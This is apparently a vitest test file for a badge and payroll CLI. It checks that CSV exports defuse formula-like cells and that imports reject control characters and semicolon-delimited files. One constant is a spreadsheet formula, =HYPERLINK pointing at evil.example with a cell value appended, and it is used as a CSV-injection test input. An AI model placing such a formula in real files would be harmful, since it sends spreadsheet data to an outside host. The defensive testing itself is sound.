import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { parseCsv } from "../../src/admin/csv.js";
import { ExitCode } from "../../src/core/exit-codes.js";
import { harness, badgeListJson as listJson } from "../admin/cli-harness.js";
import { tapper } from "../admin/seed.js";

/** CSV files people open in a spreadsheet: what the terminal writes and what it reads. */

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

function cells(text: string): string[][] {
  const parsed = parseCsv(text);
  if (!parsed.ok) throw new Error(parsed.reason);
  return parsed.records.map((record) => record.fields);
}

describe("CSV exports open in a spreadsheet without running anything", () => {
  it("writes a badge name that looks like a formula with a leading apostrophe, and imports it back unchanged", async () => {
    const source = harness();
    await source.cli("badges", "add", "0F00A1B2C3", "anna@example.com", "--name", FORMULA);
    await source.cli("badges", "add", "0F00A1B2C4", "ben@example.com", "--name", "+49 30 1234");
    await source.cli("badges", "add", "0F00A1B2C5", "clara@example.com", "--name", "'@home");
    const out = join(source.dir, "badges.csv");
    expect((await source.cli("badges", "export", "--out", out)).code).toBe(0);
    const written = readFileSync(out, "utf8");
    expect(cells(written).map((row) => row[2])).toEqual([
      "name",
      `'${FORMULA}`,
      "'+49 30 1234",
      "''@home",
    ]);

    const target = harness();
    const imported = await target.cli("badges", "import", out);
    // Only the note that no terminal runs to be told.
    expect(imported.stderr).toMatch(/^(note: [^\n]*\n)?$/);
    expect((await listJson(target)).map((badge) => badge.name)).toEqual([
      FORMULA,
      "+49 30 1234",
      "'@home",
    ]);
  });

  it("neutralises the taps and entries of the payroll export, and leaves numbers numbers", async () => {
    const h = harness({ now: "2026-03-10T07:00:00Z" });
    const add = await h.cli("badges", "add", "0F00A1B2C3", "--", "-anna+1@example.com");
    expect(add.stderr).toMatch(/^(note: [^\n]*\n)?$/);
    const tap = tapper(h.openDb(), h.clock);
    tap("0F00A1B2C3");
    h.clock.advance(90 * 60_000);
    tap("0F00A1B2C3");

    const result = await h.cli("export", "--from", "2026-03-10", "--to", "2026-03-10");
    const [taps, entries] = result.stdout.split("\r\n\r\n").map(cells);
    expect(taps?.slice(1).map((row) => row[4])).toEqual([
      "'-anna+1@example.com",
      "'-anna+1@example.com",
    ]);
    expect(entries?.[1]?.slice(1, 8)).toEqual([
      "'-anna+1@example.com",
      "2026-03-10 08:00",
      "2026-03-10 09:30",
      "2026-03-10T07:00:00.000Z",
      "2026-03-10T08:30:00.000Z",
      "90",
      "1.50",
    ]);
  });
});

describe("badges import tells what is wrong with a spreadsheet's file", () => {
  const write = (h: ReturnType<typeof harness>, text: string) => {
    const path = join(h.dir, "badges.csv");
    writeFileSync(path, text);
    return path;
  };

  it('says so when the file is separated by ";" as European spreadsheets save it', async () => {
    const h = harness();
    const file = write(
      h,
      "badge;email;name;timeTypeId;projectId\r\n0F00A1B2C3;anna@example.com;Anna;;\r\n",
    );
    const result = await h.cli("badges", "import", file);
    expect(result.code).toBe(ExitCode.badInput);
    expect(result.stderr).toContain(
      'line 1: the fields are separated by ";" ("badge;email;name;timeTypeId;projectId"), as spreadsheets set to many European languages save CSV; save the file with commas as the separator',
    );
    expect(await listJson(h)).toEqual([]);
  });

  it("refuses control characters in names and emails, naming line and column", async () => {
    const h = harness();
    const file = write(
      h,
      [
        "badge,email,name,timeTypeId,projectId",
        "0F00A1B2C3,anna@example.com,Anna Schmidt,,",
        "0F00A1B2C4,ben@example.com,Ben\u0007Meyer,,",
        '0F00A1B2C5,clara@example.com,"Clara\nLine",,',
        "0F00A1B2C6,deniz\u001b@example.com,Deniz,,",
        "0F00A1B2C7,emil@example.com,\u202eEmil,,",
        "",
      ].join("\r\n"),
    );
    const result = await h.cli("badges", "import", file);
    expect(result.code).toBe(ExitCode.badInput);
    const lines = result.stderr.trim().split("\n");
    expect(lines.slice(0, 4)).toEqual([
      `${file}: line 3, column 3 (name): name "Ben\\u0007Meyer" holds the control character U+0007 at character 4; names and emails may not contain control characters (tabs, line breaks, escape codes): type it again without them`,
      `${file}: line 4, column 3 (name): name "Clara\\nLine" holds the control character U+000A at character 6; names and emails may not contain control characters (tabs, line breaks, escape codes): type it again without them`,
      `${file}: line 6, column 2 (email): email "deniz\\u001b@example.com" holds the control character U+001B at character 6; names and emails may not contain control characters (tabs, line breaks, escape codes): type it again without them`,
      `${file}: line 7, column 3 (name): name "\u202eEmil" holds the control character U+202E at character 1; names and emails may not contain control characters (tabs, line breaks, escape codes): type it again without them`,
    ]);
    expect(await listJson(h)).toEqual([]);
  });

  it("refuses a control character in badges add --name as a usage error", async () => {
    const h = harness();
    const result = await h.cli("badges", "add", "0F00A1B2C3", "anna@example.com", "--name", "A\tB");
    expect(result.code).toBe(ExitCode.usage);
    expect(result.stderr).toContain(
      'name "A\\tB" holds the control character U+0009 at character 2',
    );
    expect(await listJson(h)).toEqual([]);
  });
});
